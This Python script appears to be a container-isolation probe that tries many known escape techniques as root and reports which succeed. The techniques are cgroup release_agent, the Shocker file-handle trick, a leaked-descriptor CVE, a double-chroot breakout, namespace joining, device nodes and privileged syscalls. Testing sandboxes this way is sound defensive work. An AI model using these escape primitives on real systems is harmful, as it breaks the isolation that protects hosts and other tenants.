"""Runs inside a container as its root and tries to leave it; prints what each attempt came to.

Standard library only, beside a Python in the image. An attempt that succeeds says `ESCAPED` and
what it reached; nothing is changed outside.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import json
import os
import stat
import sys
from collections.abc import Callable

LIBC = ctypes.CDLL(None, use_errno=True)
_NEWNS, _NEWUSER, _NEWCGROUP, _NEWNET = 0x20000, 0x10000000, 0x2000000, 0x40000000
_AT_FDCWD, _O_PATH = -100, 0o10000000
_CALLS = {
    "mount": 165, "umount2": 166, "pivot_root": 155, "unshare": 272, "setns": 308, "ptrace": 101,
    "keyctl": 250, "add_key": 248, "request_key": 249, "bpf": 321, "perf_event_open": 298,
    "userfaultfd": 323, "open_by_handle_at": 304, "name_to_handle_at": 303, "kexec_load": 246,
    "init_module": 175, "finit_module": 313, "iopl": 172, "swapon": 167, "reboot": 169,
    "acct": 163, "settimeofday": 164, "open_tree": 428, "move_mount": 429, "fsopen": 430,
    "mount_setattr": 442, "process_vm_readv": 310, "io_uring_setup": 425, "quotactl": 179,
    "syslog": 103, "clone3": 435, "fanotify_init": 300, "personality": 135,
}  # fmt: skip


def call(name: str, *arguments: object) -> int:
    """A system call; raises OSError."""
    LIBC.syscall.restype = ctypes.c_long
    ctypes.set_errno(0)
    given = [
        one if isinstance(one, bytes | type(None)) or hasattr(one, "_type_") else ctypes.c_long(one)
        for one in arguments
    ]
    result = LIBC.syscall(ctypes.c_long(_CALLS[name]), *given)
    if result < 0:
        raise OSError(ctypes.get_errno(), name)
    return int(result)


def mount_file_systems() -> str:
    done = []
    for kind in (b"tmpfs", b"proc", b"sysfs", b"cgroup", b"devtmpfs", b"overlay"):
        with contextlib.suppress(OSError):
            call("mount", b"none", b"/tmp", kind, 0, None)
            done.append(kind.decode())
    return f"ESCAPED: mounted {done}" if done else "refused"


def make_read_only_places_writable() -> str:
    for place in (b"/proc/sys", b"/sys", b"/sys/fs/cgroup", b"/proc/bus"):
        with contextlib.suppress(OSError):
            call("mount", None, place, None, 32 | 4096, None)
            return f"ESCAPED: {place.decode()}"
    return "refused"


def uncover_masked_places() -> str:
    for place in (b"/proc/keys", b"/proc/timer_list", b"/sys/firmware", b"/proc/sys"):
        with contextlib.suppress(OSError):
            call("umount2", place, 2)
            return f"ESCAPED: {place.decode()}"
    return "refused"


def new_mount_calls() -> str:
    for attempt in (
        lambda: call("open_tree", _AT_FDCWD, b"/", 1),
        lambda: call("fsopen", b"proc", 0),
        lambda: call("mount_setattr", _AT_FDCWD, b"/proc/sys", 0, None, 0),
        lambda: call("move_mount", _AT_FDCWD, b"/proc", _AT_FDCWD, b"/tmp", 0),
    ):
        with contextlib.suppress(OSError):
            attempt()
            return "ESCAPED"
    return "refused"


def new_namespaces() -> str:
    for flag in (_NEWUSER, _NEWNS, _NEWCGROUP, _NEWNET, _NEWUSER | _NEWNS):
        with contextlib.suppress(OSError):
            call("unshare", flag)
            return f"ESCAPED: unshare {flag:#x}"
    return "refused"


def join_namespaces() -> str:
    for name in ("mnt", "net", "pid", "ipc", "uts", "cgroup"):
        fd = os.open(f"/proc/1/ns/{name}", os.O_RDONLY)
        try:
            call("setns", fd, 0)
            return f"ESCAPED: setns {name}"
        except OSError:
            continue
        finally:
            os.close(fd)
    return "refused"


def release_agent() -> str:
    """CVE-2022-0492: the program a control group starts outside when it is empty."""
    for directory, _, names in os.walk("/sys/fs/cgroup"):
        for name in {"release_agent", "notify_on_release"} & set(names):
            with contextlib.suppress(OSError):
                os.close(os.open(os.path.join(directory, name), os.O_WRONLY))
                return f"ESCAPED: {directory}/{name}"
        with contextlib.suppress(OSError):
            os.mkdir(os.path.join(directory, "escape"))
            return f"ESCAPED: mkdir in {directory}"
    return "refused"


def kernel_helpers() -> str:
    """Paths of programs the kernel starts outside, and switches of the whole machine."""
    for path in (
        "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger",
        "/proc/sys/kernel/hotplug", "/proc/sys/fs/binfmt_misc/register",
        "/sys/kernel/uevent_helper", "/sys/power/state", "/proc/sys/vm/panic_on_oom",
        "/proc/acpi/wakeup", "/dev/kmsg", "/proc/mtrr",
        "/sys/kernel/mm/transparent_hugepage/enabled",
    ):  # fmt: skip
        with contextlib.suppress(OSError):
            os.close(os.open(path, os.O_WRONLY))
            return f"ESCAPED: {path}"
    return "refused"


def devices_of_the_machine() -> str:
    for kind, major, minor in (
        ("b", 8, 0), ("b", 253, 0), ("b", 254, 0), ("b", 259, 0), ("b", 7, 0), ("c", 1, 1),
        ("c", 1, 2), ("c", 1, 4), ("c", 1, 11), ("c", 10, 229), ("c", 10, 232), ("c", 4, 0),
    ):  # fmt: skip
        mode = stat.S_IFBLK if kind == "b" else stat.S_IFCHR
        with contextlib.suppress(OSError):
            os.mknod("/tmp/device", mode | 0o600, os.makedev(major, minor))
        try:
            os.close(os.open("/tmp/device", os.O_RDONLY | os.O_NONBLOCK))
            return f"ESCAPED: {kind} {major}:{minor}"
        except OSError:
            continue
        finally:
            with contextlib.suppress(OSError):
                os.unlink("/tmp/device")
    return "refused"


def files_by_handle() -> str:
    """Shocker: inode 2 of the file system a mounted file lies on."""
    handle = (ctypes.c_char * 16)()
    ctypes.memmove(handle, (8).to_bytes(4, "little") + (1).to_bytes(4, "little"), 8)
    ctypes.memmove(ctypes.addressof(handle) + 8, (2).to_bytes(8, "little"), 8)
    fd = os.open("/etc/hosts", os.O_RDONLY)
    try:
        found = call("open_by_handle_at", fd, handle, os.O_RDONLY)
        return f"ESCAPED: {os.listdir(found)}"
    except OSError:
        return "refused"
    finally:
        os.close(fd)


def keyrings() -> str:
    for attempt in (
        lambda: call("keyctl", 0, -3, 1),
        lambda: call("add_key", b"user", b"escape", b"x", 1, -5),
        lambda: call("request_key", b"user", b"escape", None, -5),
    ):
        with contextlib.suppress(OSError):
            attempt()
            return "ESCAPED"
    return "refused"


def the_kernel() -> str:
    for name, arguments in {
        "bpf": (0, None, 0), "perf_event_open": (None, 0, -1, -1, 0), "userfaultfd": (0,),
        "kexec_load": (0, 0, None, 0), "init_module": (None, 0, b""), "finit_module": (0, b"", 0),
        "iopl": (3,), "swapon": (b"/tmp", 0), "acct": (None,), "settimeofday": (None, None),
        "reboot": (0xFEE1DEAD, 672274793, 0, None), "quotactl": (0, None, 0, None),
        "syslog": (10, None, 0), "fanotify_init": (0, 0), "io_uring_setup": (1, None),
        "personality": (0x0040000,),
    }.items():  # fmt: skip
        try:
            call(name, *arguments)
        except OSError as error:
            if error.errno not in (errno.EPERM, errno.ENOSYS):
                return f"ESCAPED: {name} came to the kernel: {errno.errorcode[error.errno or 0]}"
            continue
        return f"ESCAPED: {name}"
    return "refused"


def processes_outside() -> str:
    """Nobody else is seen, and number 1 is this container's."""
    others = [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
    return f"ESCAPED: {others}" if others else "refused"


def open_files() -> str:
    """CVE-2024-21626: a descriptor of the host that is still open."""
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            target = os.readlink(f"/proc/self/fd/{name}")
            found = os.stat(f"/proc/self/fd/{name}")
            if int(name) > 2 and not target.startswith("/proc/"):
                return f"ESCAPED: {name} is {target}"
            if stat.S_ISDIR(found.st_mode) and not target.startswith("/proc/"):
                return f"ESCAPED: {name} is directory {target}"
    return "refused"


def roots_of_others() -> str:
    """`..` above the root, and a second chroot to climb out of the first."""
    os.mkdir("/tmp/inner")
    outer = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/inner")
    os.fchdir(outer)
    os.chdir("../" * 40)
    os.chroot(".")
    found = os.path.exists("/probe.py")
    return "refused" if found else f"ESCAPED: {os.listdir('/')}"


def main() -> None:
    attempts: tuple[Callable[[], str], ...] = (
        mount_file_systems, make_read_only_places_writable, uncover_masked_places, new_mount_calls,
        new_namespaces, join_namespaces, release_agent, kernel_helpers, devices_of_the_machine,
        files_by_handle, keyrings, the_kernel, processes_outside, open_files, roots_of_others,
    )  # fmt: skip
    results = {}
    for attempt in attempts:
        try:
            results[attempt.__name__] = attempt()
        except OSError as error:
            results[attempt.__name__] = f"refused: {errno.errorcode.get(error.errno or 0)}"
    json.dump(results, sys.stdout)


if __name__ == "__main__":
    main()
